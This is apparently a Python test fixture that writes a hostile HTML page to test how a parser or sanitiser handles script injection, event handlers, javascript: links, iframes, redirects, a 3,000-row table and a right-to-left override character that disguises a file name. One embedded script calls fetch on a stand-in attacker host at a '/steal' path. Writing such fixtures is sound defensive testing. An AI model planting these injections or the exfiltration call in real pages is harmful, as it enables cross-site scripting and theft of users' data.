"""A document that tries what it can: scripts, script addresses, frames, styles, a huge table, turned names."""

from __future__ import annotations

from pathlib import Path

TITLE = "Bomb kills 9 in Kabul <script>window.broken = 1</script>"
TURNED = "\u202ecod.exe\u202c"
PARAGRAPHS = (
    f"Gunmen of the group {TURNED} attacked a market in Kabul on 3 May 2019, killing nine people, police said.",
    '<img src=x onerror="window.broken = 2"> Two soldiers were killed in a roadside bombing in Herat on 4 May 2019.',
    "قتل تسعة أشخاص في هجوم على سوق في كابول يوم الجمعة.",
)
PAGE = """<!doctype html><html><head><title>{title}</title><base href="https://evil.example/">
<script>window.broken = 3; fetch("https://evil.example/steal")</script>
<link rel="canonical" href="javascript:window.broken=4"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body {{ background: url(https://evil.example/pixel) }}</style></head>
<body onload="window.broken = 5"><article><h1>{title}</h1>{paragraphs}
<p><a href="javascript:window.broken=6">Click here</a> <iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name=a></form><svg onload="window.broken=7"></svg>
<img src="https://evil.example/pixel.gif"></p><table>{rows}</table></article></body></html>"""
ROWS = 3000


def write_hostile(folder: Path) -> Path:
    """Write the document, its text escaped as its writer meant it to be read."""
    escaped = [each.replace("<", "&lt;") for each in PARAGRAPHS]
    rows = "<tr><td>1</td><td>cell</td></tr>" * ROWS
    path = folder / "hostile.html"
    paragraphs = "".join(f"<p>{each}</p>" for each in escaped)
    path.write_text(PAGE.format(title=TITLE.replace("<", "&lt;"), paragraphs=paragraphs, rows=rows), "utf-8")
    return path
